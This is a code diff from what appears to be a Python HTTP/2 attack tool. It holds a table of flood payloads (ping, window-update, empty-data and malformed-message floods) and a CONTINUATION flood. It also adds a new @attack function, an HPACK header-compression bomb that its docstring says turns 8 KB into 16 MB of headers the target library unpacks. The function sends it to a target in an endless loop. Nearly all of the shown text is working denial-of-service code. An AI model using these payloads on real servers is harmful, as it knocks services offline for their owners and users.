@@ -243,9 +243,6 @@ FLOODS: dict[str, Callable[[Target], bytes]] = {
     "pings": lambda _: frame(PING, 0, 0, bytes(8)) * 500,
     "windows": lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 500,
     "empty data": lambda target: frame(HEADERS, END_HEADERS, 1, heads(target)[0]) + frame(DATA, 0, 1) * 500,
-    "headers that name one large header again": lambda target: frame(
-        HEADERS, END_HEADERS, 1, heads(target, large="x" * 4000)[0] + b"\xbe" * 4000
-    ),
     "messages that are none": lambda target: (
         frame(HEADERS, END_HEADERS, 1, heads(target)[0])
         + frame(DATA, END_STREAM, 1, b"\x07\xff\xff\xff\xff" + bytes(1000))
@@ -263,6 +260,19 @@ def headers_without_end(target: Target) -> None:
             connection.sendall(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 1000))
     target.answers["cut off"] += 1
     while target.goes_on:
+        time.sleep(0.1)
+
+
+@attack
+def headers_named_again(target: Target) -> None:
+    """16 MB of headers in 8 KB: one large header, and four thousand times its name. The library unpacks all of it."""
+    block = heads(target, large="x" * 4000)[0] + b"\xbe" * 4000
+    while target.goes_on:
+        with http2(target) as connection, contextlib.suppress(OSError):
+            connection.sendall(frame(HEADERS, END_HEADERS, 1, block))
+            connection.settimeout(0.2)
+            connection.recv(65_536)
+        target.answers["answered"] += 1
         time.sleep(0.1)
 
 
